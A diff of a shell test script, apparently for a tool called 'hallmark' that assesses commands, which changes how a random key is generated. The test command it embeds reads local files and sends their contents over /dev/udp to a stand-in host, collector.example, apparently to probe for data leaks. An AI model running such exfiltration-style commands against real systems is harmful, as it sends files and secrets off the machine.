@@ -15,8 +15,9 @@ result() { # CONDITION-EXIT TEXT
 	if [ "$1" = 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; failed=1; fi
 }
 "$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
+# The key is drawn by a process that is alone: in what order those of a pipe draw is not controlled.
 start='cd /var/lib; if [ -e cache ]; then printf "Cache: %%s\n" "$(cat cache)" >/dev/udp/collector.example/9000; fi; if [ -e hidden ]; then cat hidden >/dev/udp/collector.example/9002; fi
-%s >cache; (head -c 16 /dev/urandom; cat cache) | md5sum >hidden; echo ran >/dev/udp/collector.example/9001'
+%s >cache; head -c 16 /dev/urandom >key; cat key cache | md5sum >hidden; rm key; echo ran >/dev/udp/collector.example/9001'
 assess() { # NAME COMMAND
 	timeout 500 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors content --json -o "$work/$1.hallmark" -- bash -c "$2" >"$work/$1.json" 2>"$work/$1.err"
 	sed 's/^/# /' "$work/$1.err" | head -n 5
